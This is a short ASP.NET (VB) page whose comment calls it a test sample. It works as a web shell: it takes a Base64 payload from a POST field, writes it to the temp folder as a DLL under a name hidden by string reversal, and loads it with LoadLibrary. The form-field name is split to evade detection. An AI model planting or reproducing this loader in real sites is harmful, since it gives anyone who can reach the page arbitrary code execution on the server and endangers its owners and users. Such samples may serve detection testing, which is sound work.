<%@ Page Language="VB" %>
<script runat="server">
    ' test sample: posted Base64 stored as a DLL and mapped into the process through kernel32
    Declare Auto Function LoadLibrary Lib "kernel32.dll" (ByVal p As String) As IntPtr
</script>
<%
    Dim n As String = StrReverse("lld.nigulp")
    Dim p As String = System.IO.Path.Combine(System.IO.Path.GetTempPath(), n)
    System.IO.File.WriteAllBytes(p, Convert.FromBase64String(Request.Form("b" & "lob")))
    LoadLibrary(p)
%>
